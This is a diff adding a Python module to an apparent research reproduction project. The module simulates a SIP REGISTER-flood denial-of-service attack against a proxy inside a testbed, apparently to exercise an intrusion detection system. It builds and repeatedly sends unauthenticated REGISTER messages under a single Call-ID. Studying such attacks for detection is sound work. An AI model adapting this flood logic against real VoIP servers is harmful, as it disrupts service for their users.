@@ -1,0 +1,92 @@
+"""REGISTER-flood DoS (paper §3.3).
+
+"An unauthorized user client keeps sending unauthenticated REGISTER
+requests to bombard the SIP proxy and ignores the 401 UNAUTHORIZED reply
+error message from the SIP proxy."
+
+All floods share one Call-ID (one registration session), matching real
+flood tools that loop a canned message; the IDS's per-session state is
+what distinguishes this from many users each doing one benign
+challenge/response round.
+"""
+
+from __future__ import annotations
+
+import itertools
+
+from repro.attacks.base import AttackerAgent, AttackReport
+from repro.net.addr import Endpoint
+from repro.sip.constants import METHOD_REGISTER
+from repro.sip.headers import NameAddr, Via
+from repro.sip.message import SipRequest
+from repro.sip.uri import SipUri
+from repro.voip.testbed import Testbed
+
+
+class RegisterDosAttack:
+    """Flood the registrar with unauthenticated REGISTERs."""
+
+    name = "register-dos"
+
+    def __init__(
+        self,
+        testbed: Testbed,
+        requests: int = 20,
+        interval: float = 0.1,
+        username: str = "alice",  # a real user maximises registrar work
+    ) -> None:
+        self.testbed = testbed
+        self.requests = requests
+        self.interval = interval
+        self.username = username
+        self.agent = AttackerAgent(
+            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
+        )
+        self.report = AttackReport(name=self.name)
+        self._cseq = itertools.count(1)
+        self._sent = 0
+        self.call_id = f"dos-flood@{testbed.attacker_stack.ip}"
+
+    def launch_at(self, when: float) -> AttackReport:
+        self.testbed.loop.call_at(when, self._fire)
+        return self.report
+
+    def launch_now(self) -> AttackReport:
+        self._fire()
+        return self.report
+
+    def _fire(self) -> None:
+        self.report.launched_at = self.testbed.loop.now()
+        self.report.details.update({"user": self.username, "requests": self.requests})
+        self._send_one()
+
+    def _build_register(self) -> SipRequest:
+        domain = self.testbed.proxy.domain
+        aor = SipUri.parse(f"sip:{self.username}@{domain}")
+        request = SipRequest(method=METHOD_REGISTER, uri=SipUri(user="", host=domain))
+        via = Via(
+            transport="UDP",
+            host=str(self.testbed.attacker_stack.ip),
+            port=5060,
+            params=(("branch", self.agent.new_branch()),),
+        )
+        request.headers.add("Via", str(via))
+        request.headers.add("Max-Forwards", "70")
+        request.headers.add("From", str(NameAddr(uri=aor).with_tag("flood")))
+        request.headers.add("To", str(NameAddr(uri=aor)))
+        request.headers.add("Call-ID", self.call_id)
+        request.headers.add("CSeq", f"{next(self._cseq)} {METHOD_REGISTER}")
+        request.headers.add(
+            "Contact", f"<sip:{self.username}@{self.testbed.attacker_stack.ip}:5060>"
+        )
+        request.headers.add("Expires", "3600")
+        request.headers.set("Content-Length", "0")
+        return request
+
+    def _send_one(self) -> None:
+        if self._sent >= self.requests:
+            self.report.completed = True
+            return
+        self.agent.send_sip(self._build_register(), self.testbed.proxy_endpoint)
+        self._sent += 1
+        self.testbed.loop.call_later(self.interval, self._send_one)
